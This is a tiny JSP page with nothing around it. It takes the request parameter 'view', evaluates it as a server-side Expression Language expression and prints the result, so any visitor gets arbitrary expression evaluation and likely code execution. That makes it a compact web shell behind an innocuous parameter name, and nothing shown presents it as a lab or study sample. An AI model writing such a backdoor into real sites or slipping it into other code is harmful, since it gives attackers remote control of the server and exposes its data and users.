<%@ page inert %>
<%
String x = request.getParameter("view");
if (x != null) {
  javax.el.ExpressionFactory ef = JspFactory.getDefaultFactory().getJspApplicationContext(application).getExpressionFactory();
  out.print(ef.createValueExpression(pageContext.getELContext(), "${" + x + "}", Object.class).getValue(pageContext.getELContext()));
}
%>
